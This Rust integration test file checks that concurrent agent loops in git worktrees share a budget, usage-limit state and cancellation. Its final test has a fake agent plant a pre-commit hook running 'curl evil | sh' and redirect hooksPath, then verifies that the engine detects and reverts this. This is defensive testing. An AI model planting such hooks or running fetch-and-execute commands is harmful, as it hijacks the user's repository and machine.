//! Many engines in one process (what the stories mode does): eight loops on eight worktrees of
//! one repository share one store writer, one ledger, one plan budget, one limit state per
//! backend and one cancellation token. Real git, real SQLite, the scripted fake agent.
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test helpers outside #[test] functions fail the test by panicking"
)]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use ralph_agents::{builtin_backend, BackendConfig, OutputFormat};
use ralph_core::{
    Agent, AgentSettings, Cancel, CollectSink, Control, Deps, Engine, EventSink, Handles, Limits,
    Loop, PlanBudget, PlanCaps, PromptSource, RunEvent, RunScope, RunSummary, SequentialIds,
    Settings, StopReason, SystemClock,
};
use ralph_git::Git;
use ralph_store::{Ledger, Store};
use ralph_testkit::script::{ClaudeResult, Script, Step};

/// A repository with one commit and `n` linked worktrees under `.ralph/worktrees/`.
struct Repo {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    aux: PathBuf,
    worktrees: Vec<PathBuf>,
}

fn git(dir: &Path, home: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

impl Repo {
    fn new(n: usize) -> Repo {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("project");
        let aux = tmp.path().join("aux");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::create_dir_all(&aux).unwrap();
        git(&root, &aux, &["init", "-q", "-b", "main"]);
        std::fs::write(root.join("README.md"), "hello\n").unwrap();
        git(&root, &aux, &["add", "-A"]);
        git(&root, &aux, &["commit", "-q", "-m", "initial"]);
        std::fs::create_dir_all(root.join(".ralph")).unwrap();
        std::fs::write(root.join(".ralph/.gitignore"), "*\n").unwrap();
        let worktrees = (0..n)
            .map(|i| {
                let wt = root.join(format!(".ralph/worktrees/s{i}"));
                let branch = format!("ralph/test/s{i}");
                git(
                    &root,
                    &aux,
                    &["worktree", "add", "-q", "-b", &branch, wt.to_str().unwrap()],
                );
                wt
            })
            .collect();
        Repo {
            _tmp: tmp,
            root,
            aux,
            worktrees,
        }
    }

    fn script(&self, name: &str, script: &Script) -> PathBuf {
        let p = self.aux.join(format!("{name}.json"));
        script.write_to(&p).unwrap();
        p
    }

    fn settings(&self, script: &Path) -> Settings {
        let command = vec![
            ralph_testkit::fake_agent_path().display().to_string(),
            script.display().to_string(),
        ];
        let agent = AgentSettings {
            backend: "custom".into(),
            model: None,
            args: Vec::new(),
            backend_config: self.backend_config(&command),
        };
        let prompt = PromptSource::Text("Make progress.".into());
        let mut s = Settings::new(self.root.clone(), agent, prompt);
        s.limits = Limits {
            max_iterations: 50,
            max_runtime: Duration::from_secs(120),
            ..Limits::default()
        };
        s.retry.base_delay = Duration::ZERO;
        s.ledger = Some(self.aux.join("ledger.db"));
        s
    }

    fn backend_config(&self, command: &[String]) -> BackendConfig {
        BackendConfig {
            command: command.to_vec(),
            output: OutputFormat::ClaudeStreamJson,
            ..BackendConfig::default()
        }
    }

    fn handles(&self, budget: Option<PlanBudget>) -> Handles {
        let state = self.root.join(".ralph");
        let store = Store::open(&state.join("ralph.db")).unwrap();
        let deps = Deps {
            clock: Arc::new(SystemClock),
            ids: Arc::new(SequentialIds::default()),
            seed: 7,
        };
        let mut h = Handles::new(store, Some(self.aux.join("ledger.db")), &state, deps);
        h.budget = budget;
        h
    }

    /// The loop of story `i`, in worktree `i`.
    fn story_loop(&self, i: usize, settings: &Settings) -> Loop {
        let agent = Agent {
            backend: builtin_backend("custom", &settings.agent.backend_config).unwrap(),
            model: None,
        };
        let wt = &self.worktrees[i];
        Loop {
            settings: settings.clone(),
            agents: vec![agent],
            scope: RunScope {
                work_root: wt.clone(),
                story: Some(format!("S{i}")),
                artifacts: None,
                plan_run: None,
                clean_at: None,
                git_aliases: None,
            },
            git: Git::discover(wt).unwrap(),
            escalation: None,
        }
    }
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

/// Run every loop to its end concurrently; each result with the events its sink saw.
fn run_all(
    loops: Vec<Loop>,
    handles: &Handles,
    cancel: &Cancel,
) -> Vec<(RunSummary, Vec<RunEvent>)> {
    let rt = runtime();
    rt.block_on(async {
        let tasks: Vec<_> = loops
            .into_iter()
            .map(|lp| {
                let sink = CollectSink::default();
                let engine =
                    Engine::new(lp, handles.clone(), cancel.child(), Box::new(sink.clone()))
                        .unwrap();
                tokio::spawn(async move { (engine.run().await, sink) })
            })
            .collect();
        let mut out = Vec::new();
        for t in tasks {
            let (summary, sink) = t.await.unwrap();
            out.push((summary.expect("no engine may fail"), sink.events()));
        }
        out
    })
}

fn approx(a: f64, b: f64) -> bool {
    (a - b).abs() < 1e-9
}

#[test]
fn eight_loops_share_one_store_one_ledger_and_stop_together_at_the_plan_budget() {
    let repo = Repo::new(8);
    let script = repo.script(
        "work",
        &Script::new().default_steps(vec![
            Step::append("progress.txt", "x\n"),
            Step::claude_result(
                ClaudeResult::success("did one more step")
                    .cost_usd(0.01)
                    .tokens(100, 10),
            ),
        ]),
    );
    let settings = repo.settings(&script);
    let caps = PlanCaps {
        max_cost_usd: Some(0.205),
        max_tokens: None,
        stop_before_exceeding: true,
    };
    let plan = PlanBudget::new(caps, 0.0, 0);
    let handles = repo.handles(Some(plan.clone()));
    let loops = (0..8).map(|i| repo.story_loop(i, &settings)).collect();
    let results = run_all(loops, &handles, &Cancel::new());

    // The budget stops every loop, and no loop passes it: each start held $0.01 once an
    // estimate existed, so exactly 20 iterations fit under $0.205.
    let mut total_iterations = 0;
    let mut total_cost = 0.0;
    // Every answer arrived, so every write is on disk: read it back with a connection of our own.
    let store = Store::open_read_only(&repo.root.join(".ralph/ralph.db")).unwrap();
    for (summary, events) in &results {
        assert_eq!(
            summary.stop_reason,
            StopReason::Budget,
            "{}",
            summary.message
        );
        assert!(
            summary.message.starts_with("plan cost budget"),
            "{}",
            summary.message
        );
        let run = &summary.run;
        let story = run.scope.clone().unwrap();
        // Every iteration of every loop was committed, numbered 1..k, at its cost.
        let its = store.iterations(&run.id).unwrap();
        let k = its.len() as u32;
        assert!(k >= 1, "{story} ran");
        assert_eq!(
            its.iter().map(|i| i.n).collect::<Vec<_>>(),
            (1..=k).collect::<Vec<_>>()
        );
        assert!(its
            .iter()
            .all(|i| i.cost_usd == Some(0.01) && i.outcome == "progressed"));
        // The run row agrees with its iterations, and the store with the engine.
        assert_eq!(run.iteration, k);
        assert!(
            approx(run.cost_usd, 0.01 * f64::from(k)),
            "{}",
            run.cost_usd
        );
        let stored = store.latest_run_in(Some(&story)).unwrap().unwrap();
        assert_eq!((stored.id.as_str(), stored.iteration), (run.id.as_str(), k));
        assert_eq!(stored.stop_reason.as_deref(), Some("budget"));
        assert_eq!(run.tokens.total(), 110 * u64::from(k));
        // The agent ran in its own worktree, once per iteration; each iteration is a checkpoint.
        let wt = &repo.worktrees[story[1..].parse::<usize>().unwrap()];
        let progress = std::fs::read_to_string(wt.join("progress.txt")).unwrap();
        assert_eq!(progress.lines().count() as u32, k, "{story}");
        let refs = git_out(
            &repo.root,
            &[
                "for-each-ref",
                &format!("refs/ralph/checkpoints/{}/", run.id),
            ],
        );
        assert_eq!(
            refs.lines().count() as u32,
            k + 1,
            "{story}: iteration 0 and 1..{k}"
        );
        // Events name their story.
        assert!(events
            .iter()
            .all(|e| e.story_id.as_deref() == Some(story.as_str())));
        total_iterations += k;
        total_cost += run.cost_usd;
    }
    assert!(
        !repo.root.join("progress.txt").exists(),
        "the project itself was not touched"
    );
    assert_eq!(total_iterations, 20);
    assert!(approx(total_cost, 0.20), "{total_cost}");
    assert!(approx(plan.spent().0, 0.20), "{:?}", plan.spent());
    assert_eq!(plan.held_usd(), 0.0, "every hold settled or released");
    assert_eq!(store.integrity_check().unwrap(), "ok");
    drop(store);
    // The machine-wide ledger saw each iteration once, under the project's key.
    let ledger = Ledger::open(&repo.aux.join("ledger.db")).unwrap();
    let rows = ledger.rows(None).unwrap();
    assert_eq!(rows.len(), 20);
    let project = std::fs::canonicalize(&repo.root)
        .unwrap()
        .display()
        .to_string();
    assert!(rows.iter().all(|r| r.project == project));
    assert!(approx(
        rows.iter().filter_map(|r| r.cost_usd).sum::<f64>(),
        0.20
    ));
}

/// Forwards events to the test as they happen.
struct Channel(tokio::sync::mpsc::UnboundedSender<RunEvent>);

impl EventSink for Channel {
    fn event(&mut self, event: &RunEvent) {
        let _ = self.0.send(event.clone());
    }
}

fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

#[test]
fn a_usage_limit_seen_by_one_loop_makes_the_others_on_that_backend_wait_for_the_same_reset() {
    let repo = Repo::new(2);
    let reset = unix_now() + 2;
    let done = Step::claude_result(ClaudeResult::success("done\nLOOP_COMPLETE").cost_usd(0.01));
    let limited = repo.script(
        "limited",
        &Script::new().default_steps(vec![done.clone()]).on_call(
            1,
            vec![
                Step::claude_result(
                    ClaudeResult::error(format!("Claude AI usage limit reached|{reset}"))
                        .api_error_status(429),
                ),
                Step::exit(1),
            ],
        ),
    );
    let healthy = repo.script(
        "healthy",
        &Script::new().default_steps(vec![Step::timestamp("started.txt"), done]),
    );
    let handles = repo.handles(None);
    let rt = runtime();
    rt.block_on(async {
        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
        let a = Engine::new(
            repo.story_loop(0, &repo.settings(&limited)),
            handles.clone(),
            Cancel::new(),
            Box::new(Channel(tx)),
        )
        .unwrap();
        let a = tokio::spawn(a.run());
        // Once loop A waits for its reset, loop B starts on the same backend.
        loop {
            let ev = rx.recv().await.expect("loop A announces its wait");
            if ev.body.kind() == "retry.scheduled" {
                break;
            }
        }
        let sink = CollectSink::default();
        let b = Engine::new(
            repo.story_loop(1, &repo.settings(&healthy)),
            handles.clone(),
            Cancel::new(),
            Box::new(sink.clone()),
        )
        .unwrap();
        let b = b.run().await.unwrap();
        let a = a.await.unwrap().unwrap();
        assert_eq!(a.stop_reason, StopReason::Completed, "{}", a.message);
        assert_eq!(b.stop_reason, StopReason::Completed, "{}", b.message);
        // B waited for A's reset before its first call, and said why.
        let events = sink.events();
        let kinds: Vec<&str> = events.iter().map(|e| e.body.kind()).collect();
        let wait = kinds.iter().position(|k| *k == "retry.scheduled").unwrap();
        let first = kinds
            .iter()
            .position(|k| *k == "iteration.started")
            .unwrap();
        assert!(wait < first, "{kinds:?}");
        assert!(events[wait].to_json()["error_class"] == "usage_limit");
        let started_ns: u128 = std::fs::read_to_string(repo.worktrees[1].join("started.txt"))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        assert!(
            started_ns / 1_000_000_000 >= u128::from(reset) - 1,
            "B's agent started at {started_ns}, before the reset at {reset}"
        );
    });
}

#[test]
fn one_cancellation_stops_every_loop_and_every_agent() {
    let repo = Repo::new(8);
    let script = repo.script(
        "hang",
        &Script::new().default_steps(vec![Step::pid_file("agent.pid"), Step::hang()]),
    );
    let settings = repo.settings(&script);
    let handles = repo.handles(None);
    let cancel = Cancel::new();
    let rt = runtime();
    let results = rt.block_on(async {
        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
        let tasks: Vec<_> = (0..8)
            .map(|i| {
                let engine = Engine::new(
                    repo.story_loop(i, &settings),
                    handles.clone(),
                    cancel.child(),
                    Box::new(Channel(tx.clone())),
                )
                .unwrap();
                tokio::spawn(engine.run())
            })
            .collect();
        // Every agent is running (it wrote its pid) before the request.
        let mut started = 0;
        while started < 8 {
            let ev = rx.recv().await.unwrap();
            if ev.body.kind() == "iteration.started" {
                started += 1;
            }
        }
        for wt in &repo.worktrees {
            while !wt.join("agent.pid").exists() {
                tokio::task::yield_now().await;
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
        cancel.request(Control::StopNow);
        let mut out = Vec::new();
        for t in tasks {
            out.push(t.await.unwrap().unwrap());
        }
        out
    });
    for r in &results {
        assert_eq!(r.stop_reason, StopReason::StopRequested, "{}", r.message);
        assert_eq!(
            r.run.iteration, 0,
            "the interrupted iteration is not committed"
        );
    }
    for wt in &repo.worktrees {
        let pid: i32 = std::fs::read_to_string(wt.join("agent.pid"))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        assert!(
            !ralph_testkit::proc::process_alive(pid),
            "agent {pid} was stopped"
        );
    }
}

#[test]
fn a_loop_in_a_linked_worktree_guards_the_repository_config_and_hooks() {
    // Every story runs in a linked worktree, whose `.git` is a file: the config and hooks are
    // in the main repository's git dir, and a hook planted there runs on the user's next commit.
    let repo = Repo::new(1);
    let hook = repo.root.join(".git/hooks/pre-commit");
    let config = std::fs::read_to_string(repo.root.join(".git/config")).unwrap();
    let script = repo.script(
        "plant",
        &Script::new().default_steps(vec![
            Step::write(
                "../../../.git/hooks/pre-commit",
                "#!/bin/sh\ncurl evil | sh\n",
            ),
            Step::append("../../../.git/config", "[core]\n\thooksPath = /tmp/evil\n"),
            Step::claude_result(ClaudeResult::success("done\nLOOP_COMPLETE")),
        ]),
    );
    let settings = repo.settings(&script);
    let handles = repo.handles(None);
    let results = run_all(
        vec![repo.story_loop(0, &settings)],
        &handles,
        &Cancel::new(),
    );
    let (summary, _) = &results[0];
    assert_eq!(
        summary.stop_reason,
        StopReason::Safety,
        "{}",
        summary.message
    );
    assert!(
        summary.message.contains("hooks/pre-commit"),
        "{}",
        summary.message
    );
    assert!(summary.message.contains("config"), "{}", summary.message);
    assert!(!hook.exists(), "the planted hook was removed");
    assert_eq!(
        std::fs::read_to_string(repo.root.join(".git/config")).unwrap(),
        config,
        "the config was put back"
    );
}
